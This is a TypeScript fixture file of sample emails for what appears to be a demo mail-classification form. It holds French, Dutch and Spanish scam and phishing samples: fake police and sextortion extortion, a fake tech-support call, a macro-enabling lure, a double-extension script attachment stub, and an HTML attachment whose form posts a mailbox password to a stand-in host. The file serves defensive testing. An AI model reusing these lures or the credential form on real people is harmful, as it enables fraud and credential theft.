import type { Sample } from '../../../demo/form/sample.ts';
import { docxFile, pdfFile, textFile, zipFile } from '../file-parts.ts';

/** Threats, false alarms and files that bite. */
export const threatsAndFiles: Sample[] = [
	{
		date: '2026-11-10T18:00:26+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'BRIGADE DE PROTECTION DES MINEURS <convocation.bpm@police-judiciaire-cabinet.example>',
		to: ['alain.forestier@diplomatie.ml'],
		subject: 'CONVOCATION JUDICIAIRE – dernier rappel',
		text: `A VOTRE ATTENTION,

Veuillez prendre connaissance du document PDF ci-joint concernant l'enquête vous visant. Vous disposez de 72 heures pour faire entendre vos justifications par mail. Passé ce délai un MANDAT D'ARRET sera transmis au procureur et votre dossier aux chaînes de télévision.

Commissaire divisionnaire`,
		attachments: [
			pdfFile(
				'CONVOCATION.pdf',
				`REPUBLIQUE - DIRECTION CENTRALE DE LA POLICE

Nous engageons a votre encontre des poursuites pour :
- consultation de sites interdits
- cyber-pornographie
- exhibitionnisme

Les preuves ont ete enregistrees par notre cyber-gendarme.

Une amende transactionnelle de 5 870 EUR met fin a la procedure.
Repondez uniquement par courriel. Dossier classe apres paiement.`,
			),
		],
	},
	{
		date: '2026-11-19T08:12:52+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Service Expédition <expedition@transit-conteneurs-med.example>',
		to: ['bureau.transit@intradef.ml'],
		subject: 'BL + liste de colisage conteneur',
		text: `Bonjour,
Ci-joint les documents originaux de votre conteneur arrivé ce matin au port. Merci de vérifier le poids et de confirmer avant 11 h, sinon des frais de surestarie s'appliqueront.
Bonne réception`,
		attachments: [zipFile('BL_COLISAGE_pdf.zip', 'BL_COLISAGE.pdf.vbs', "' 12 lignes masquees\nSet o = Nothing\n")],
	},
	{
		date: '2026-11-11T03:03:03+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'm.verhoeven@mindef.ml',
		envelopeFrom: 'x71@relay-nobody.example',
		to: ['m.verhoeven@mindef.ml'],
		subject: 'Ik heb je gefilmd',
		text: `hallo viezerik

zoals je ziet mail ik je vanaf JE EIGEN ACCOUNT. ik zit al 4 maand in al je apparaten. toen jij op die site zat heb ik via je camera meegekeken (leuke smaak heb je haha). links jouw scherm, rechts jij.

betaal 1300 euro in bitcoin en ik wis alles:
bc1qv7k2m9d4x0t8r5w3h6yjn2pz4c8s1fl0ae7ug

je hebt 48 uur vanaf NU, ik zie dat je dit leest. doe je niks dan gaat de video naar je vrouw, je commandant en heel je adresboek. politie heeft geen zin, ik zit in het buitenland.

volgende keer plakkertje op je camera.`,
	},
	{
		date: '2026-11-13T11:50:10+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Windos Technische Dienst <melding@windos-helpcentrum.example>',
		to: ['e.schouten@army.ml'],
		subject: 'Melding 0x80072 : uw computer stuurt virussen naar onze server',
		text: `Geachte gebruiker,

Op 13 november hebben wij vastgesteld dat uw computer (adres [[ip-address:203.0.113.87]]) gevaarlijke bestanden naar ons netwerk verzendt. Uw licentie is daarom voorlopig geblokkeerd.

Zet uw computer NIET uit. Bel onze gecertificeerde techniekers op 0800 555 0142 en installeer het hulpprogramma dat zij u noemen. De reparatie kost eenmalig 149 euro en u krijgt levenslang bescherming.

Technische Dienst, afdeling Netwerkveiligheid`,
	},
	{
		date: '2026-11-17T08:02:11+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Crediteurenbeheer Van Eyck Medische Groothandel <debiteuren@vaneyck-medisch.example>',
		to: ['apotheek.milhosp@mll.be'],
		subject: 'Openstaande saldi oktober',
		text: `Goedemorgen,

In bijlage het overzicht van de openstaande posten. Mogen wij u vragen de gele regels na te kijken? Het document is beschermd; klik bovenaan op "Bewerken inschakelen" en daarna op "Inhoud inschakelen" om de bedragen te zien.

Mieke, crediteurenbeheer`,
		attachments: [
			docxFile(
				'saldi_oktober.docm',
				`DIT DOCUMENT IS GEMAAKT IN EEN OUDERE VERSIE

Om de inhoud te bekijken:
1. Klik op Bewerken inschakelen
2. Klik op Inhoud inschakelen`,
			),
		],
	},
	{
		date: '2026-11-23T12:08:19+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'es',
		from: 'Administración Suministros Levante <facturas@suministros-levante-sl.example>',
		to: ['contabilidad.hospital@mde.ml'],
		subject: 'Factura F26/1183 pendiente',
		text: `Buenos días:

Les remito la factura indicada, que según nuestros registros sigue sin abonarse. El archivo se abre con el navegador; si les pide la clave del correo es por la protección de datos.

Quedo a la espera de sus noticias.
Administración`,
		attachments: [
			textFile(
				'Factura_F26_1183.html',
				`<html><body style="background:#f4f4f4"><center>
<p><b>Documento protegido</b></p>
<p>Introduzca la clave de contabilidad.hospital para ver la factura F26/1183</p>
<form action="https://visor.suministros-levante-sl.example/entrada" method="post">
<input type="password" name="clave"><input type="submit" value="Ver"></form>
</center></body></html>`,
				'text/html',
			),
		],
	},
];
